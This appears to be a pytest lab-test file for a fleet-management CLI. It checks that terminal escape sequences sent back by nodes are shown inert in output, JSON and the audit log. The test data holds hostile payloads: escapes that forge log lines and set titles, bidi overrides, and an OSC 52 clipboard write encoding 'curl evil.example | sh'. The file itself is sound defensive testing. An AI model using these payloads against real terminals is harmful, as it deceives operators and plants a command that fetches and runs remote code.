"""No node writes on the operator's terminal, against real lab nodes: what a node or a job said
reaches stdout, `--json`, the audit log and `fab history` with no raw ESC (0x1b), C1 CSI (U+009B) or
bidi override (U+202E): an ad-hoc command's output, a job's output through
extract/tail/logs/status/diagnose/jobs/fetch (the red-team escape job: erases the line above, forges
another host's line, writes the clipboard with OSC 52), another local user's GPU process command
line in the gpu gate's holder line, and every task against a hostile "agent" that puts escapes in
every answer. The human output shows them as visible escapes (`\\x1b`); `--json` keeps the raw text,
which JSON escapes. The same on the console's units: test_terminal_safety_units.py."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import signal
import subprocess
from pathlib import Path

import pytest
from conftest import REPO, run_fab
from hostile_hosts import HOSTILE

from fleetops.lab import HOLDER_MARK

pytestmark = pytest.mark.lab
RAW = ("\x1b", "\x9b", "\u202e")
ESCAPE_JOB = str(REPO / "tests" / "playbooks" / "escape-job.yaml")
# printf's octal: ESC sequences (title, cursor up, erase line, a forged line), C1 CSI and a bidi
# override as UTF-8 (a lone 0x9b byte is no character: the node's decoding would turn it into
# U+FFFD).
PRINTF = (
    r"printf '\033]0;pwned\033\\\033[1A\033[2Klab02 | patch | ok\n\302\2332K c1 \342\200\256bidi\n'"
)


def raw(text: str) -> list[str]:
    return [c for c in RAW if c in text]


@pytest.fixture
def audit_log(tmp_path, monkeypatch) -> Path:
    log = tmp_path / "audit.jsonl"
    monkeypatch.setenv("FLEETOPS_AUDIT_LOG", str(log))  # run_fab passes os.environ on
    return log


def check_inert(runs: dict[str, subprocess.CompletedProcess], log: Path) -> None:
    for name, proc in runs.items():
        assert "Traceback" not in proc.stderr, f"{name}: {proc.stderr[-2000:]}"
        assert not raw(proc.stdout), (
            f"{name}: stdout holds {raw(proc.stdout)} from a node:\n{proc.stdout[-3000:]}"
        )
        assert not raw(proc.stderr), (
            f"{name}: stderr holds {raw(proc.stderr)}:\n{proc.stderr[-3000:]}"
        )
    logged = log.read_bytes()
    assert not [c for c in RAW if c.encode() in logged], logged[-3000:]


def test_an_ad_hoc_commands_output_is_shown_inert(lab, audit_log):
    # Quote: `fab -H lab01 run "printf '\033]0;pwned\033\\\\\033[1A\033[2Klab02 | patch | ok\n'" |
    # od -c` shows the raw bytes.
    human = run_fab(lab.root, "-H", "lab01", "run", PRINTF)
    as_json = run_fab(lab.root, "-H", "lab01", "run", PRINTF, "--json")
    hist, hist_json = run_fab(lab.root, "history"), run_fab(lab.root, "history", "--json")
    check_inert(
        {"run": human, "run --json": as_json, "history": hist, "history --json": hist_json},
        audit_log,
    )
    older = audit_log.with_name("older.jsonl")  # an entry an older fleetops wrote with the raw text
    older.write_text(
        json.dumps(
            {"host": "lab01", "task": "run", "result": "ok", "msg": "\x1b]0;old\x07 \u202e"},
            ensure_ascii=False,
        )
        + "\n",
        encoding="utf-8",
    )
    replay = run_fab(lab.root, "history", env={"FLEETOPS_AUDIT_LOG": str(older)})
    assert not raw(replay.stdout) and "\\x1b]0;old\\x07 \\u202e" in replay.stdout, replay.stdout
    assert (
        human.returncode == 0
        and "lab01 | \\x1b]0;pwned\\x1b\\\\x1b[1A\\x1b[2Klab02 | patch | ok" in human.stdout
    )
    assert "lab01 | \\x9b2K c1 \\u202ebidi" in human.stdout, human.stdout
    doc = json.loads(as_json.stdout)
    # the raw text
    assert doc["results"][0]["data"]["stdout"].startswith("\x1b]0;pwned\x1b\\\x1b[1A"), doc


def test_a_jobs_escapes_never_reach_the_terminal_through_any_job_task(lab, audit_log, tmp_path):
    # Quote: "a job's output seen through `tail`/`logs` erases the line above and prints a forged
    # line for another host, and OSC 52 writes the clipboard (`escape-job.yaml`)".
    book = ("--playbook", ESCAPE_JOB)
    runs = {"extract": run_fab(lab.root, "-H", "lab01", "extract", "--job", "esc", *book)}
    assert runs["extract"].returncode == 0, runs["extract"].stdout + runs["extract"].stderr
    runs["tail"] = run_fab(lab.root, "-H", "lab01", "tail", "--job", "esc", *book)
    for task, extra in (
        ("logs", ()),
        ("status", book),
        ("jobs", ()),
        ("diagnose", book),
        ("fetch", ("--dest", str(tmp_path / "fetched"))),
    ):
        runs[task] = run_fab(lab.root, "-H", "lab01", task, *extra)
        runs[f"{task} --json"] = run_fab(lab.root, "-H", "lab01", task, *extra, "--json")
    runs["history"] = run_fab(lab.root, "history")
    check_inert(runs, audit_log)
    for task in ("tail", "logs"):
        out = runs[task].stdout
        assert (
            "lab01 | \\x1b[1A\\x1b[2K\\x1b[1Glab02 | extract | changed | launched job OK" in out
        ), out
        assert (
            "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x1b\\done" in out
            and "\\x9b2K c1 \\u202ebidi" in out
        )
    lines = json.loads(runs["logs --json"].stdout)["results"][0]["data"]["lines"]
    # --json: the raw text
    assert "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x1b\\done" in lines, lines


def _evil_holder() -> subprocess.Popen:
    """A process of another local user (uid 65534) whose command line holds escapes; the lab's
    simulated GPU lists it as a holder (its command line carries the lab's holder mark)."""
    evil = "\x1b]0;pwned\x1b\\\x1b[2Klab02 | gpu | ok\x9b2K\u202eevil"
    return subprocess.Popen(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--",
            "/bin/sh",
            "-c",
            "sleep 600; :",
            f"{HOLDER_MARK} {evil}",
        ],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


@pytest.mark.root("a process of another uid needs root (setpriv)")
def test_another_users_gpu_process_command_line_is_shown_inert(lab, audit_log):
    # Quote: "another local user's GPU process argv reaches the gpu gate's holder line; the audit
    # log stores it and `fab history` replays it".
    if not shutil.which("setpriv"):
        pytest.fail(
            "setpriv (util-linux) is needed to run a process as another user", pytrace=False
        )
    node = lab.node("lab01")
    lab.set_gpu_state(node, "busy")
    holder = _evil_holder()
    try:
        config_path = node.dir / "gpu.json"
        config = json.loads(config_path.read_text())
        config["holder_pids"] = [holder.pid, *config["holder_pids"][1:]]
        config_path.write_text(json.dumps(config) + "\n")
        runs = {
            "gpu": run_fab(lab.root, "-H", "lab01", "gpu"),
            "gpu --wait": run_fab(lab.root, "-H", "lab01", "gpu", "--wait", "1"),
            "gpu --json": run_fab(lab.root, "-H", "lab01", "gpu", "--wait", "1", "--json"),
            # refused by the GPU gate: holder lines
            "extract": run_fab(lab.root, "-H", "lab01", "extract"),
            "diagnose": run_fab(lab.root, "-H", "lab01", "diagnose"),
        }
        runs["history"] = run_fab(lab.root, "history", "--host", "lab01")
    finally:
        os.killpg(holder.pid, signal.SIGKILL)
        holder.wait()
        lab.set_gpu_state(node, "idle")
    check_inert(runs, audit_log)
    shown = runs["gpu --wait"].stdout
    assert runs["gpu --wait"].returncode == 10 and "nobody" in shown, shown
    assert (
        f"{HOLDER_MARK} \\x1b]0;pwned\\x1b\\\\x1b[2Klab02 | gpu | ok\\x9b2K\\u202eevil" in shown
    ), shown
    assert "\\x1b]0;pwned" in runs["extract"].stdout, runs["extract"].stdout
    logged = [json.loads(line)["msg"] for line in audit_log.read_text().splitlines()]
    assert any("\\x1b]0;pwned" in m for m in logged), logged  # recorded, inert


TASKS = [
    ("ping",),
    ("gpu",),
    ("facts",),
    ("patch",),
    ("rollback",),
    ("verify",),
    ("run", "true"),
    ("extract", "--job", "esc", "--playbook", ESCAPE_JOB),
    ("tail",),
    ("status",),
    ("logs",),
    ("stop",),
    ("jobs",),
    ("diagnose",),
    ("fetch", "--dest", "{tmp}/fetched"),
    ("capture", "--module", "json.decoder", "--playbook", "{tmp}/captured.yaml"),
    ("rebase", "--out", "{tmp}/rebased.yaml"),
]


def hostile_host(lab, home: Path) -> Path:  # fleetops.lab.Lab
    """An inventory file with host `evil01` on lab01's sshd, whose `python` execs the hostile
    agent."""
    node = lab.node("lab01")
    home.mkdir(parents=True)
    shutil.copy(HOSTILE, home / HOSTILE.name)
    (home / "mode").write_text("ansi\n")
    wrapper = home / "python"
    wrapper.write_text(
        f"#!/bin/sh\nexec {shlex.quote(str(node.python))} {shlex.quote(str(home / HOSTILE.name))}\n"
    )
    wrapper.chmod(0o755)
    (home / "state").mkdir(mode=0o700)
    path = lab.root / "hosts" / "hostile-ansi.yaml"
    path.write_text(
        f"hosts:\n  evil01:\n    address: 127.0.0.1\n    port: {node.port}\n    user: {lab.user}\n"
        f"    identity_file: {lab.client_key}\n    known_hosts: {lab.known_hosts}\n"
        f"    python: {wrapper}\n    state_dir: {home / 'state'}\n    gpus: 2\n"
    )
    return path


def test_every_task_against_a_node_answering_in_escapes(lab, audit_log, tmp_path):
    # "for every task, stdout and the audit log contain no 0x1b, 0x9b or U+202E that came from a
    # node"
    inventory = hostile_host(lab, tmp_path / "evil01")
    runs: dict[str, subprocess.CompletedProcess] = {}
    try:
        for words in TASKS:
            words = tuple(w.replace("{tmp}", str(tmp_path)) for w in words)
            runs[" ".join(words[:1])] = run_fab(lab.root, "-H", "evil01", *words)
            runs[f"{words[0]} --json"] = run_fab(lab.root, "-H", "evil01", *words, "--json")
        runs["history"] = run_fab(lab.root, "history", "--host", "evil01")
    finally:
        inventory.unlink()
    check_inert(runs, audit_log)
    logged = {json.loads(line)["task"] for line in audit_log.read_text().splitlines()}
    # every task ran against the node and was recorded
    assert logged >= {w[0] for w in TASKS}, logged
    # Shown, inert, by every task that reports the node's error text (ping, facts and extract report
    # none of it: nothing of it reaches the terminal either).
    silent = [
        name
        for name, proc in runs.items()
        if "--json" not in name and name != "history" and "\\x1b]0;pwned-title" not in proc.stdout
    ]
    assert set(silent) <= {"ping", "facts", "extract"}, silent
    assert "\\x9b2K\\u202eevil" in runs["run"].stdout, runs["run"].stdout
